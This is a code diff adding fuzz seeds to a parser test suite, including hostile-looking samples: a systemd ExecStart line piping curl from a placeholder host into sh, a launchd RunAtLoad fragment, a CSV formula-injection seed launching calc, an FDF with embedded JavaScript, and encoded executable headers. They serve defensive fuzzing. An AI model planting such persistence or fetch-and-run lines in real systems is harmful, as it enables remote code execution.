@@ -1,5 +1,7 @@
 """Fuzz targets: the readers of files and pictures, and what tells one type of file from another."""
 
+import plistlib
+
 from bench.fuzz import readers, seeds
 from bench.fuzz.seeds import Seeds, formats, lines, pictures
 from bench.fuzz.target import Target
@@ -93,6 +95,36 @@ FILES: tuple[Target, ...] = (
         made=lines("a,=cmd|'/c calc'!A1\n=HYPERLINK(\"https://a.example\")", "ID;P\nO;E\nNN;Nauto_open;ER1C1"),
     ),
     _file(
+        "text",
+        "json",
+        name="encoded-data",
+        made=lines(
+            '["key",{},"uri","data:application/octet-stream;base64,' + "TVqQAAMAAAAEAAAA\\/\\/8AALgA\\u002b" * 9 + '"]',
+            "<xfdf xmlns='http://ns.adobe.com/xfdf/'><data encoding='hex'>"
+            + "504b0304140000000800" * 9
+            + "</data></xfdf>",
+        ),
+    ),
+    _file("data", "plist", name="binary-list", made=lines(plistlib.dumps({"a": b"MZ" * 40}, fmt=plistlib.FMT_BINARY))),
+    _file(
+        "pdf",
+        "fdf",
+        name="form-data",
+        made=lines(
+            b"%FDF-1.2\n1 0 obj<</FDF<</F(//a.example/b\\051)/JavaScript<</After(app.alert\\(1\\))>>>>>>endobj",
+            b"%FDF-1.2\n1 0 obj<</FDF<</UF<68747470733a2f2f61>>>>>endobj",
+        ),
+    ),
+    _file(
+        "text",
+        "sh",
+        name="settings",
+        made=lines(
+            "[Service]\nExecStart=sh -c 'curl https://a.example | sh'\n",
+            "<key>ProgramArguments</key><array><string>a</string></array><key>RunAtLoad</key>",
+        ),
+    ),
+    _file(
         "data",
         "bin",
         name="workbook-part",
@@ -115,6 +147,8 @@ FILES: tuple[Target, ...] = (
     ),
     Target("page-scripts", readers.run_page, seeds.running_pages, most=4_096),
     Target("page-browser", readers.BrowserTarget(), seeds.page_codes, most=2_048),
+    Target("page-gates", readers.BrowserTarget(is_gated=True), seeds.gated_codes, most=2_048),
+    Target("large-pages", readers.shorten_page, seeds.large_pages, most=4_096),
     Target("page-xml", readers.read_xml_nodes, seeds.xml_pages),
     Target("page-effects", readers.add_page_effects, seeds.page_effects),
     Target("picture-pdf", readers.read_picture("pdf"), formats("pdf")),
